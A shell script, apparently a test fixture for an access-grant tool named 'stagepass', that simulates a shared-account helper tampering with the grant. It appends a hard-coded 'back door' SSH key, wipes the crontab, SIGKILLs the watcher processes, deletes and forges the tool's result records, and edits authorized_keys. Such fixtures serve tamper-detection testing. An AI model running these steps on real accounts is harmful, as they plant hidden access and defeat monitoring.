#!/bin/sh
# Run by the supporter of a shared account: another key in another file, and then what stagepass had put
# into the account goes (`gone`), a result of the server's takes its place (`forged`), and the line of the
# grant goes as well, with two programs left behind, one without the mark of the gate (`forged-and-out`).
#   shared-plant.sh gone|forged|forged-and-out [GRANT NOW]
how=$1 grant=${2:-} now=${3:-0}
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDq3XVBpGkbkEy8q1Yp3v7u7pG2kFf0cXvT0u4d4yQ3n back door' >>"$HOME/.ssh/authorized_keys2"
chmod 600 "$HOME/.ssh/authorized_keys2"
crontab -r 2>/dev/null
# The gate's watcher ends a session whose files are gone.
# shellcheck disable=SC2013 # paths in /proc, which hold no blanks
for one in $(grep -ls -e '--watch' /proc/[0-9]*/cmdline); do
    one=${one#/proc/}
    [ "${one%%/*}" = $$ ] || kill -KILL "${one%%/*}" 2>/dev/null
done
rm -rf "$HOME"/.stagepass
[ "$how" != gone ] || exit 0
mkdir -m 700 "$HOME/.stagepass"
printf '%s\n' by_server=true "server_closed_at=$now" sessions_left=0 sessions_ended=0 uses_total=0 difference=done >"$HOME/.stagepass/result.$grant"
[ "$how" = forged-and-out ] || exit 0
setsid sleep 72031 </dev/null >/dev/null 2>&1 &
env -u STAGEPASS_GRANT setsid sleep 72032 </dev/null >/dev/null 2>&1 &
grep -v "stagepass:$grant\$" "$HOME/.ssh/authorized_keys" >"$HOME/.ssh/new"
cat "$HOME/.ssh/new" >"$HOME/.ssh/authorized_keys"
rm -f "$HOME/.ssh/new"
